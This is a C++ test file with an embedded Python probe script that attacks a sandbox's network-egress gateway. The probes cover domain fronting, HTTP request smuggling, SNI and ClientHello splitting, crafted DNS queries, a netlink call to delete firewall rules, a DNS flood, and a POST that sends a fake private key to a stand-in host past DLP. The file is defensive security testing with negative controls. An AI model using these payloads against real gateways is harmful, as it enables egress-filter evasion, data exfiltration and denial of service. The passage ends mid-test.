// Attacks on network egress (`--net`), from inside the sandbox: domain
// fronting through every parser differential we could find, smuggling,
// SNI tricks, SOCKS5/CONNECT edge cases, DNS tricks, the sandbox's own rules
// and routes, the gateway's listeners, resource exhaustion, the audit log.
//
// Most probes run with `--net allow=evil.allowed.test` only. In the lab
// evil.allowed.test and other.test share 203.0.113.11 (as two sites share a
// CDN address), and the lab's server logs the Host and SNI it received: a
// request logged there with Host or SNI other.test is a successful fronting
// attack (other.test is not allowed). Every test has a negative control:
// the same probe for the allowed name works, or the lab's server accepts
// the same bytes straight from the host side.
//
// Written by an independent review; the eight attacks it found succeeding
// (unclassified first bytes, bare LF, a silent first second, Upgrade then a
// non-letter, data with a CONNECT head, DLP skipped on those paths, the
// host's own address in --net open, unbounded audit growth) are fixed and
// their tests enabled.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <map>
#include <sstream>

#include "harness.h"
#include "netlab.h"

namespace ultari::test {
namespace {

using nlohmann::json;

// The attack probes (bound at /atk/atk.py; also run from the lab's host side
// as negative controls). One result line per command.
const char* const kAtk = R"PY(#!/usr/bin/python3
"""Attack probes run inside the sandbox (and from the lab host side as controls).
Every command prints one line."""
import codecs, os, socket, ssl, struct, sys, time

T = 3.0

def esc(s):
    return codecs.decode(s, "unicode_escape").encode("latin-1")

def ip_of(host):
    try:
        socket.inet_aton(host)
        return host
    except OSError:
        return socket.gethostbyname(host)

def lab_lines(data):
    out = [l.strip() for l in data.decode("latin-1").split("\n") if l.strip().startswith("lab server=")]
    return " || ".join(out)

def read_all(s, limit=T):
    data = b""
    s.settimeout(limit)
    try:
        while True:
            c = s.recv(65536)
            if not c:
                break
            data += c
    except socket.timeout:
        pass
    except OSError as e:
        return data, "errno=%d" % e.errno
    return data, ""

def raw(host, port, delay, *parts):
    try:
        s = socket.create_connection((ip_of(host), int(port)), timeout=T)
        time.sleep(float(delay))
        for i, p in enumerate(parts):
            if i:
                time.sleep(0.2)
            s.sendall(esc(p))
        data, err = read_all(s)
    except OSError as e:
        return "raw error errno=%s" % e.errno
    got = lab_lines(data)
    return "raw %s %s" % (("ok " + got) if got else "nothing", err or ("status=" + data.split(b"\r\n")[0].decode("latin-1") if data else "closed"))

def tls(host, port, sni, delay, prefix_hex):
    try:
        s = socket.create_connection((ip_of(host), int(port)), timeout=T)
        time.sleep(float(delay))
        if prefix_hex != "-":
            s.sendall(bytes.fromhex(prefix_hex))
        ctx = ssl.create_default_context(cafile="/ca.pem" if os.path.exists("/ca.pem") else os.environ.get("LAB_CA"))
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
        data, err = read_all(t)
    except ssl.SSLError as e:
        return "tls refused ssl %s" % e.reason
    except OSError as e:
        return "tls refused errno=%s" % e.errno
    got = lab_lines(data)
    return ("tls ok " + got) if got else "tls refused nothing"

def tlsfrag(host, port, sni, mode):
    """ClientHello sent as one TLS record ("one") or split in two records ("split")."""
    try:
        ctx = ssl.create_default_context(cafile="/ca.pem" if os.path.exists("/ca.pem") else os.environ.get("LAB_CA"))
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, out, server_hostname=sni)
        s = socket.create_connection((ip_of(host), int(port)), timeout=T)
        try:
            obj.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = out.read()
        body = hello[5:]
        if mode == "split":
            cut = 20
            recs = [body[:cut], body[cut:]]
            wire = b"".join(b"\x16" + hello[1:3] + struct.pack("!H", len(r)) + r for r in recs)
        else:
            wire = hello
        s.sendall(wire)
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                o = out.read()
                if o:
                    s.sendall(o)
                d = s.recv(65536)
                if not d:
                    return "tlsfrag refused closed"
                inc.write(d)
        o = out.read()
        if o:
            s.sendall(o)
        obj.write(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
        s.sendall(out.read())
        data = b""
        while True:
            try:
                data += obj.read(65536)
            except ssl.SSLWantReadError:
                d = s.recv(65536)
                if not d:
                    break
                inc.write(d)
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
    except ssl.SSLError as e:
        return "tlsfrag refused ssl %s" % e.reason
    except OSError as e:
        return "tlsfrag refused errno=%s" % e.errno
    got = lab_lines(data)
    return ("tlsfrag ok " + got) if got else "tlsfrag refused nothing"

def socks(atyp, addr, port, hosthdr):
    """SOCKS5 CONNECT through 127.0.0.1:1080; addr escaped (atyp 3), dotted (1), hex (4)."""
    try:
        s = socket.create_connection(("127.0.0.1", 1080), timeout=T)
        s.sendall(b"\x05\x01\x00")
        if s.recv(2) != b"\x05\x00":
            return "socks refused method"
        a = int(atyp)
        if a == 1:
            dst = socket.inet_aton(addr)
        elif a == 3:
            n = esc(addr)
            dst = bytes([len(n) & 0xff]) + n
        else:
            dst = bytes.fromhex(addr)
        s.sendall(b"\x05\x01\x00" + bytes([a]) + dst + struct.pack("!H", int(port)))
        rep = s.recv(10)
        if len(rep) < 2 or rep[1] != 0:
            return "socks refused code=%s" % (rep[1] if len(rep) > 1 else "closed")
        s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % hosthdr).encode())
        data, err = read_all(s)
    except OSError as e:
        return "socks refused errno=%s" % e.errno
    got = lab_lines(data)
    return ("socks ok " + got) if got else "socks refused nothing"

def dns(server, proto, packet_hex):
    pkt = bytes.fromhex(packet_hex)
    try:
        if proto == "tcp":
            s = socket.create_connection((server, 53), timeout=T)
            s.sendall(struct.pack("!H", len(pkt)) + pkt)
            data = s.recv(4096)[2:]
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(0.5)
            s.sendto(pkt, (server, 53))
            data = s.recv(4096)
    except socket.timeout:
        return "dns timeout"
    except OSError as e:
        return "dns error errno=%s" % e.errno
    if len(data) < 12:
        return "dns closed"
    an = struct.unpack("!H", data[6:8])[0]
    return "dns rcode=%d an=%d" % (data[3] & 0xF, an)

def qname(labels):
    out = b""
    for l in labels:
        out += bytes([len(l)]) + l
    return out + b"\0"

def dnsq(server, proto, kind):
    """A crafted query; kind says which trick."""
    hdr = lambda qd=1, ar=0: struct.pack("!HHHHHH", 0x1234, 0x0100, qd, 0, 0, ar)
    A = b"\0\x01\0\x01"
    q = {
        "ok": hdr() + qname([b"evil", b"allowed", b"test"]) + A,
        "denied": hdr() + qname([b"other", b"test"]) + A,
        "upper": hdr() + qname([b"OTHER", b"TEST"]) + A,
        "dotlabel": hdr() + qname([b"other.test"]) + A,
        "nullabel": hdr() + qname([b"other\0", b"test"]) + A,
        "suffix": hdr() + qname([b"other", b"test\0evil", b"allowed", b"test"]) + A,
        "two": hdr(2) + qname([b"evil", b"allowed", b"test"]) + A + qname([b"other", b"test"]) + A,
        "compress": hdr() + b"\xc0\x0c" + A,
        "txt": hdr() + qname([b"evil", b"allowed", b"test"]) + b"\0\x10\0\x01",
        "long": hdr() + qname([b"a" * 63] * 4 + [b"other", b"test"]) + A,
        "edns": hdr(1, 1) + qname([b"other", b"test"]) + A + b"\0\0\x29\x10\0\0\0\0\0\0\0",
        "chaos": hdr() + qname([b"evil", b"allowed", b"test"]) + b"\0\x01\0\x03",
    }[kind]
    return dns(server, proto, q.hex())

def nftdel():
    """Asks the kernel to delete table inet ultari (an nftables batch over netlink)."""
    NFNL_SUBSYS_NFTABLES, NFT_MSG_DELTABLE = 10, 2
    def msg(mtype, flags, seq, family, res_id, attrs=b""):
        body = struct.pack("!BBH", family, 0, res_id) + attrs
        return struct.pack("=IHHII", 16 + len(body), mtype, flags, seq, 0) + body
    name = b"ultari\0"
    attr = struct.pack("=HH", 4 + len(name), 1) + name
    attr += b"\0" * ((4 - len(attr) % 4) % 4)
    NLM_F_REQUEST, NLM_F_ACK = 1, 4
    batch = (msg(0x10, NLM_F_REQUEST, 1, 0, 10) +
             msg(NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, 2, 1, 0, attr) +
             msg(0x11, NLM_F_REQUEST, 3, 0, 10))
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
        s.settimeout(T)
        s.bind((0, 0))
        s.send(batch)
        data = s.recv(65536)
    except OSError as e:
        return "nftdel error errno=%s" % e.errno
    while len(data) >= 20:
        ln, mtype = struct.unpack("=IH", data[:6])
        if mtype == 2:
            err = struct.unpack("=i", data[16:20])[0]
            return "nftdel ack errno=%d" % -err
        data = data[ln:]
    return "nftdel noack"

def dnsflood(seconds):
    """Queries for denied names as fast as possible; prints how many were sent."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    end = time.time() + float(seconds)
    n = 0
    while time.time() < end:
        name = b"x%08d" % n
        pkt = struct.pack("!HHHHHH", n & 0xffff, 0x0100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\x05flood\x00\x00\x01\x00\x01"
        try:
            s.sendto(pkt, ("127.0.0.1", 53))
            n += 1
        except BlockingIOError:
            time.sleep(0.0005)
        try:
            while True:
                s.recv(512)
        except (BlockingIOError, OSError):
            pass
    return "dnsflood sent=%d" % n

def hold(n, host, port, seconds):
    """Holds N idle connections, then tries one request (during) and one after closing them."""
    ip = ip_of(host)
    socks_ = []
    opened = 0
    for _ in range(int(n)):
        try:
            socks_.append(socket.create_connection((ip, int(port)), timeout=T))
            opened += 1
        except OSError:
            break
    time.sleep(float(seconds))
    during = raw(ip, port, "0", "GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % host)
    for s in socks_:
        s.close()
    time.sleep(1.0)
    after = raw(ip, port, "0", "GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % host)
    return "hold opened=%d during=[%s] after=[%s]" % (opened, during, after)

def main(a):
    f = {"raw": raw, "tls": tls, "tlsfrag": tlsfrag, "socks": socks, "dns": dns, "nftdel": nftdel, "dnsq": dnsq, "dnsflood": dnsflood, "hold": hold}[a[0]]
    print(f(*a[1:]))

if __name__ == "__main__":
    main(sys.argv[1:])
)PY";

constexpr const char* kKey = "-----BEGIN RSA PRIVATE KEY-----MIIEowIBAAKCAQEAfakefakefake-----END RSA PRIVATE KEY-----";

std::string lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return s;
}
// One line "LABEL <atk.py output>" in the sandbox.
std::string atk(const std::string& label, const std::string& args) {
  return "echo \"" + label + " $(/usr/bin/python3 /atk/atk.py " + args + " 2>&1 | tr '\\n' ' ')\"\n";
}
// A lab server answered this probe (atk.py prints its body line).
bool served(const std::string& line, const std::string& what) { return has(line, "lab server=") && has(line, what); }

class AttackNetwork : public LabSuite {
 protected:
  void SetUp() override {
    LabSuite::SetUp();
    write_file(dir_ / "atk.py", kAtk, 0755);
  }
  void TearDown() override {
    if (host_service_ > 0) {
      kill(host_service_, SIGKILL);
      waitpid(host_service_, nullptr, 0);
    }
  }

  Outcome run(const std::vector<std::string>& net, const std::string& script) {
    std::vector<std::string> flags = net;
    flags.insert(flags.end(), {"--net-resolver", NetLab::kDnsAddr, "--audit", audit_path(), "--ro-bind",
                               dir_.path() + ":/atk"});
    for (const auto& b : lab_->binds()) flags.push_back(b);
    return lab_->sh(script, flags);
  }
  Outcome run_allow_evil(const std::string& script) { return run({"--net", "allow=evil.allowed.test"}, script); }
  std::string policy(const std::string& toml) {
    std::string p = dir_ / ("policy" + std::to_string(policies_++) + ".toml");
    write_file(p, toml);
    return p;
  }
  // atk.py ARGS straight from the lab's host side (negative controls).
  std::string host_atk(const std::string& args) const {
    return lab_->host_sh("LAB_CA='" + lab_->ca_cert() + "' /usr/bin/python3 '" + (dir_ / "atk.py") + "' " + args).out;
  }

  std::string audit_path() const { return dir_ / "audit.jsonl"; }
  std::vector<json> audit() const {
    std::vector<json> v;
    std::istringstream in(read_file(audit_path()));
    for (std::string l; std::getline(in, l);)
      if (!l.empty()) v.push_back(json::parse(l, nullptr, false));
    return v;
  }
  bool audited(const std::string& decision, const std::string& reason) const {
    for (const auto& e : audit())
      if (e.is_object() && e.value("decision", "") == decision && e.value("reason", "") == reason) return true;
    return false;
  }
  std::string audit_dump() const { return "audit log:\n" + read_file(audit_path()); }

  // Requests the lab's servers got for other.test (by Host or SNI).
  int fronted() const {
    int n = 0;
    for (const auto& r : lab_->requests()) {
      std::string host = lower(r.value("host", ""));
      host = host.substr(0, host.find(':'));
      n += host == "other.test" || (r["sni"].is_string() && lower(r["sni"].get<std::string>()) == "other.test");
    }
    return n;
  }
  std::string seen() const {
    std::string s = "lab saw:\n";
    for (const auto& r : lab_->requests()) s += r.dump() + "\n";
    return s;
  }
  bool arrived(const std::string& part) const {
    for (const auto& r : lab_->requests())
      if (has(r.dump(), part)) return true;
    return false;
  }

  // A "host service" in the lab's host-side netns H (where ultari and its
  // gateway run), listening on 0.0.0.0:80 as sshd, a database or a
  // metrics endpoint would; it answers like a lab server and logs each
  // connection to DIR/host_service.log.
  void start_host_service() {
    std::string log = dir_ / "host_service.log";
    write_file(log, "");
    std::string code =
        "import socket,sys\n"
        "s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('0.0.0.0',80));s.listen(16)\n"
        "open(sys.argv[1]+'.ready','w').close()\n"
        "while True:\n"
        "  c,a=s.accept();c.settimeout(2)\n"
        "  try: d=c.recv(4096)\n"
        "  except OSError: d=b''\n"
        "  open(sys.argv[1],'a').write('from %s %r\\n'%(a[0],d[:60]))\n"
        "  b=b'lab server=HOST-SERVICE reached\\n'\n"
        "  c.sendall(b'HTTP/1.0 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n'%len(b)+b);c.close()\n";
    std::string ns = "/run/netns/" + lab_->host_ns();
    pid_t parent = getpid();
    host_service_ = fork();
    ASSERT_GE(host_service_, 0);
    if (host_service_ == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      if (getppid() != parent) _exit(1);
      int fd = open(ns.c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0 || setns(fd, CLONE_NEWNET) != 0) _exit(1);
      execl("/usr/bin/python3", "python3", "-c", code.c_str(), log.c_str(), nullptr);
      _exit(127);
    }
    for (int i = 0; i < 200 && !exists(log + ".ready"); ++i) usleep(10000);
    ASSERT_TRUE(exists(log + ".ready"));
  }

  int policies_ = 0;
  pid_t host_service_ = -1;
};


const std::string kHostOther = "Host: other.test\\r\\nConnection: close\\r\\n\\r\\n";
const std::string kHostEvil = "Host: evil.allowed.test\\r\\nConnection: close\\r\\n\\r\\n";

// ---------------------------------------------------------------------------
// The baseline: the lab's server at .11 serves other.test to anyone who asks
// for it, and the gateway refuses the plain fronting attempts.

TEST_F(AttackNetwork, PlainDomainFrontingIsRefused) {
  // Negative control: from the host side, .11 answers Host/SNI other.test.
  ASSERT_TRUE(served(host_atk("raw 203.0.113.11 80 0 'GET / HTTP/1.1\\r\\n" + kHostOther + "'"), "host=other.test"));
  ASSERT_TRUE(served(host_atk("tls 203.0.113.11 443 other.test 0 -"), "sni=other.test"));
  lab_->clear_logs();
  std::string script = atk("ok_http", "raw evil.allowed.test 80 0 'GET / HTTP/1.1\\r\\n" + kHostEvil + "'") +
                       atk("ok_tls", "tls evil.allowed.test 443 evil.allowed.test 0 -") +
                       atk("host", "raw evil.allowed.test 80 0 'GET / HTTP/1.1\\r\\n" + kHostOther + "'") +
                       atk("sni", "tls evil.allowed.test 443 other.test 0 -");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["ok_http"], "host=evil.allowed.test")) << r.out << r.err;
  EXPECT_TRUE(served(l["ok_tls"], "sni=evil.allowed.test")) << r.out;
  EXPECT_FALSE(served(l["host"], "")) << l["host"];
  EXPECT_FALSE(served(l["sni"], "")) << l["sni"];
  EXPECT_EQ(fronted(), 0) << seen();
  EXPECT_TRUE(audited("deny", "sni-mismatch")) << audit_dump();
}

// ---------------------------------------------------------------------------
// Attacks that get through today (vulnerabilities; see the report).

// Anything the sniffer does not classify as TLS or HTTP (sniff.cpp: a
// request line that does not start with an upper-case method, or has no
// second space) is relayed as an opaque protocol "by the name it resolved"
// (server.cpp, Flow::transparent), with no Host check and no DLP. HTTP
// servers accept such requests: leading whitespace / CRLF before the
// request line (RFC 9112 2.2), HTTP/0.9-style request lines, heads longer
// than kMaxHead.
TEST_F(AttackNetwork, UnclassifiedFirstBytesSkipTheHostCheck) {
  // Negative control: with the plain request line, the gateway refuses.
  std::string pad = "X-Pad: " + std::string(6000, 'p') + "\\r\\n";
  std::string script =
      atk("plain", "raw evil.allowed.test 80 0 'GET /plain HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("space", "raw evil.allowed.test 80 0 ' GET /space HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("tab", "raw evil.allowed.test 80 0 '\\tGET /tab HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("http09", "raw evil.allowed.test 80 0 'GET /http09\\r\\n" + kHostOther + "'") +
      // A head longer than kMaxHead (16 KiB) is "Other" too; servers take
      // heads of 64 KiB and more.
      atk("big_head", "raw evil.allowed.test 80 0 'GET /big HTTP/1.1\\r\\n" + pad + pad + pad + kHostOther + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["plain"], "")) << l["plain"] << r.err;
  for (const char* k : {"space", "tab", "http09", "big_head"}) EXPECT_FALSE(served(l[k], "host=other.test")) << k << ": " << l[k];
  EXPECT_EQ(fronted(), 0) << seen() << audit_dump();
}

// sniff.cpp header_value and http_requests.cpp header_values split a head on
// CRLF only; servers (Python's http.server, nginx, ...) also end a line at a
// bare LF. A Host after a bare LF is invisible to the gateway.
TEST_F(AttackNetwork, BareLfInTheHeadHidesAHostFromTheGateway) {
  // Negative control: the same requests with CRLF are refused (two hosts /
  // wrong host) or checked.
  std::string script =
      atk("crlf", "raw evil.allowed.test 80 0 'GET /crlf HTTP/1.1\\r\\nHost: other.test\\r\\n" + kHostEvil + "'") +
      atk("lf_first", "raw evil.allowed.test 80 0 'GET /lf HTTP/1.1\\nHost: other.test\\r\\n" + kHostEvil + "'") +
      atk("lf_keepalive", "raw evil.allowed.test 80 0 'GET /a HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\n\\r\\n' "
                          "'GET /lf2 HTTP/1.1\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'") +
      atk("lf_proxy", "raw 127.0.0.1 3128 0 'GET http://evil.allowed.test/plf HTTP/1.1\\r\\nX-A: b\\nHost: other.test\\r\\n"
                      "Connection: close\\r\\n\\r\\n'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["crlf"], "")) << l["crlf"] << r.err;
  EXPECT_TRUE(served(l["lf_keepalive"], "path=/a ")) << l["lf_keepalive"];  // the first request is fine
  for (const char* k : {"lf_first", "lf_keepalive", "lf_proxy"})
    EXPECT_FALSE(served(l[k], "host=other.test")) << k << ": " << l[k];
  EXPECT_EQ(fronted(), 0) << seen() << audit_dump();
}

// peek_sniff (server.cpp) gives up after kFirstByteMs (1 s) of silence and
// the flow is relayed "by the name it resolved": whatever the client sends
// afterwards (a ClientHello for another SNI, HTTP for another Host) is never
// looked at.
TEST_F(AttackNetwork, SilentFirstSecondTurnsOffSniAndHostChecks) {
  std::string script = atk("tls_now", "tls evil.allowed.test 443 other.test 0 -") +
                       atk("tls_late", "tls evil.allowed.test 443 other.test 1.2 -") +
                       atk("http_late", "raw evil.allowed.test 80 1.2 'GET /late HTTP/1.1\\r\\n" + kHostOther + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["tls_now"], "")) << l["tls_now"] << r.err;  // control: refused when prompt
  EXPECT_FALSE(served(l["tls_late"], "sni=other.test")) << l["tls_late"];
  EXPECT_FALSE(served(l["http_late"], "host=other.test")) << l["http_late"];
  EXPECT_EQ(fronted(), 0) << seen() << audit_dump();
}

// After a request with an Upgrade header (or CONNECT), HttpRequests
// (http_requests.cpp, MaybeTunnel) decides from one byte whether the
// server switched protocols; it never looks at the response. A server that
// ignored the upgrade reads the next request, which the gateway took for
// WebSocket frames because it began with a space.
TEST_F(AttackNetwork, UpgradeThenANonLetterByteEndsTheChecks) {
  std::string first = "GET /u HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\nUpgrade: websocket\\r\\n\\r\\n";
  std::string script =
      atk("control", "raw evil.allowed.test 80 0 '" + first + "' 'GET /second HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("attack", "raw evil.allowed.test 80 0 '" + first + "' ' GET /second HTTP/1.1\\r\\n" + kHostOther + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["control"], "path=/u ") && !served(l["control"], "host=other.test")) << l["control"] << r.err;
  EXPECT_FALSE(served(l["attack"], "host=other.test")) << l["attack"];
  EXPECT_EQ(fronted(), 0) << seen() << audit_dump();
}

// Bytes sent in the same segment as the CONNECT head (`rest` in
// Flow::http_proxy) become `prefix` and are written upstream as they are:
// the tunnel's check (peek_sniff on the client socket) never sees them.
TEST_F(AttackNetwork, EarlyDataAfterAConnectHeadIsRefused) {
  // Bytes sent in the same write as the CONNECT head, before the proxy's
  // answer, would skip the tunnel's checks: the whole request is refused
  // (403, http-smuggling), for an allowed Host too.
  std::string connect = "CONNECT evil.allowed.test:80 HTTP/1.1\\r\\nHost: evil.allowed.test:80\\r\\n\\r\\n";
  std::string script =
      atk("control", "raw 127.0.0.1 3128 0 '" + connect + "' 'GET /after HTTP/1.1\\r\\n" + kHostOther + "'") +
      atk("ok", "raw 127.0.0.1 3128 0 '" + connect + "' 'GET /ok HTTP/1.1\\r\\n" + kHostEvil + "'") +
      atk("earlyok", "raw 127.0.0.1 3128 0 '" + connect + "GET /earlyok HTTP/1.1\\r\\n" + kHostEvil + "'") +
      atk("early", "raw 127.0.0.1 3128 0 '" + connect + "GET /early HTTP/1.1\\r\\n" + kHostOther + "'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["control"], "")) << l["control"] << r.err;  // in its own segment: refused
  EXPECT_TRUE(served(l["ok"], "path=/ok")) << l["ok"];             // negative control: after the 200, it works
  EXPECT_FALSE(served(l["earlyok"], "")) << l["earlyok"];
  EXPECT_TRUE(has(l["earlyok"], "403")) << l["earlyok"];
  EXPECT_FALSE(served(l["early"], "")) << l["early"];
  EXPECT_EQ(fronted(), 0) << seen() << audit_dump();
  EXPECT_TRUE(audited("deny", "http-smuggling")) << audit_dump();
}

// The same uninspected paths carry a secret past [dlp] in plaintext HTTP.
TEST_F(AttackNetwork, DlpIsSkippedOnUninspectedPlaintextHttp) {
  std::string p = policy("allow = [\"evil.allowed.test\"]\n[dlp]\naction = \"block\"\n");
  std::string body = std::string("secret=") + kKey;
  std::string post = "POST /up HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\nContent-Length: " + std::to_string(body.size()) +
                     "\\r\\nConnection: close\\r\\n\\r\\n" + body;
  std::string connect = "CONNECT evil.allowed.test:80 HTTP/1.1\\r\\n\\r\\n";
  std::string script = atk("control", "raw evil.allowed.test 80 0 '" + post + "'") +
                       atk("space", "raw evil.allowed.test 80 0 ' " + post + "'") +
                       atk("late", "raw evil.allowed.test 80 1.2 '" + post + "'") +
                       atk("early", "raw 127.0.0.1 3128 0 '" + connect + post + "'");
  Outcome r = run({"--net-policy", p}, script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["control"], "")) << l["control"] << r.err;  // control: DLP blocks the plain POST
  EXPECT_TRUE(audited("deny", "dlp:private-key")) << audit_dump();
  for (const char* k : {"space", "late", "early"}) EXPECT_FALSE(served(l[k], "method=POST")) << k << ": " << l[k];
  EXPECT_FALSE(arrived("PRIVATE KEY")) << seen();
}

// --net open refuses private, loopback, link-local... addresses, but not the
// host's own public address: the gateway (in the host's netns) then connects
// to a service of the host itself.
TEST_F(AttackNetwork, OpenModeReachesAServiceOnTheHostsOwnAddress) {
  start_host_service();
  std::string log = dir_ / "host_service.log";
  // Negative control: the service answers on the host's address from H.
  ASSERT_TRUE(has(host_atk(std::string("raw ") + NetLab::kHostAddr + " 80 0 'GET / HTTP/1.0\\r\\n\\r\\n'"), "HOST-SERVICE"));
  write_file(log, "");
  std::string script = atk("private", "raw 10.99.0.10 80 0 'GET / HTTP/1.1\\r\\nHost: 10.99.0.10\\r\\n\\r\\n'") +
                       atk("host", std::string("raw ") + NetLab::kHostAddr + " 80 0 'GET /from-sandbox HTTP/1.1\\r\\nHost: " +
                                       NetLab::kHostAddr + "\\r\\n\\r\\n'");
  Outcome r = run({"--net", "open"}, script);
  auto l = by_label(r.out);
  EXPECT_FALSE(served(l["private"], "")) << l["private"] << r.err;  // control: private addresses are refused
  EXPECT_FALSE(has(l["host"], "HOST-SERVICE")) << l["host"];
  EXPECT_EQ(read_file(log), "") << audit_dump();
}

// Every DNS query (and every refused connection) is one audit line, with no
// rate limit or size bound: a sandbox writes to the host's disk as fast as
// it can send UDP, outside its cgroup's limits.
TEST_F(AttackNetwork, AuditLogGrowthIsBounded) {
  Outcome r = run_allow_evil(atk("flood", "dnsflood 2") + atk("after", "dnsq 127.0.0.1 udp ok"));
  auto l = by_label(r.out);
  EXPECT_TRUE(has(l["after"], "rcode=0 an=1")) << r.out << r.err;  // control: the responder still works
  struct stat st{};
  ASSERT_EQ(stat(audit_path().c_str(), &st), 0);
  EXPECT_LT(st.st_size, 1 << 20) << l["flood"] << ": " << st.st_size << " bytes of audit log in 2 s";
}

// ---------------------------------------------------------------------------
// Attacks that are refused.

TEST_F(AttackNetwork, ClientHelloSplitOverTwoTlsRecordsIsRefused) {
  // Negative controls: the lab's server accepts the split hello for
  // other.test from the host side, and the same hand-made hello in one
  // record goes through the gateway for the allowed name.
  ASSERT_TRUE(served(host_atk("tlsfrag 203.0.113.11 443 other.test split"), "sni=other.test"));
  lab_->clear_logs();
  std::string script = atk("one", "tlsfrag evil.allowed.test 443 evil.allowed.test one") +
                       atk("split", "tlsfrag evil.allowed.test 443 other.test split") +
                       atk("split_ok", "tlsfrag evil.allowed.test 443 evil.allowed.test split");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["one"], "sni=evil.allowed.test")) << r.out << r.err;
  EXPECT_FALSE(served(l["split"], "")) << l["split"];
  EXPECT_FALSE(served(l["split_ok"], "")) << l["split_ok"];  // no name seen: refused, whatever it was
  EXPECT_EQ(fronted(), 0) << seen();
  EXPECT_TRUE(audited("deny", "no-rule")) << audit_dump();
}

TEST_F(AttackNetwork, HttpSmugglingAndHeadTricksAreRefused) {
  // Each request names other.test somewhere a server could take it from,
  // or frames its body ambiguously with a request for other.test inside.
  std::string te_cl = "POST /x HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\nContent-Length: 41\\r\\nTransfer-Encoding : chunked"
                      "\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n" + kHostOther;
  std::string cl_cl = "POST /x HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\nContent-Length: 0\\r\\nContent-Length: 54"
                      "\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n" + kHostOther;
  std::string chunk_lf = "POST /x HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
                         "0\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n" + kHostOther;
  std::map<std::string, std::string> probes = {
      {"te_cl", te_cl},
      {"cl_cl", cl_cl},
      {"chunk_lf", chunk_lf},
      {"tab_host", "GET / HTTP/1.1\\r\\nHost:\\tother.test\\r\\nConnection: close\\r\\n\\r\\n"},
      {"case_host", "GET / HTTP/1.1\\r\\nhOST: OTHER.TEST.\\r\\nConnection: close\\r\\n\\r\\n"},
      {"absolute", "GET http://other.test/ HTTP/1.1\\r\\n" + kHostEvil},
      {"absolute_userinfo", "GET http://evil.allowed.test@other.test/ HTTP/1.1\\r\\n" + kHostEvil},
      {"h2_prior", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"},
  };
  std::string script = atk("ok", "raw evil.allowed.test 80 0 'GET /ok HTTP/1.1\\r\\n" + kHostEvil + "'");
  for (const auto& [k, v] : probes) script += atk(k, "raw evil.allowed.test 80 0 '" + v + "'");
  // Keep-alive: a second request with an upper-case HOST for other.test.
  script += atk("keepalive", "raw evil.allowed.test 80 0 'GET /a HTTP/1.1\\r\\nHost: evil.allowed.test\\r\\n\\r\\n' "
                             "'GET /b HTTP/1.1\\r\\nHOST: other.test\\r\\nConnection: close\\r\\n\\r\\n'");
  Outcome r = run_allow_evil(script);
  auto l = by_label(r.out);
  EXPECT_TRUE(served(l["ok"], "host=evil.allowed.test")) << r.out << r.err;  // control
  EXPECT_TRUE(served(l["keepalive"], "path=/a ")) << l["keepalive"];
  for (const auto& [k, v] : probes) EXPECT_FALSE(served(l[k], "other.test") || served(l[k], "/smuggled")) << k << ": " << l[k];
  EXPECT_FALSE(served(l["keepalive"], "path=/b")) << l["keepalive"];
  EXPECT_EQ(fronted(), 0) << seen();
  for (const auto& q : lab_->requests()) EXPECT_NE(q.value("path", ""), "/smuggled") << q.dump();
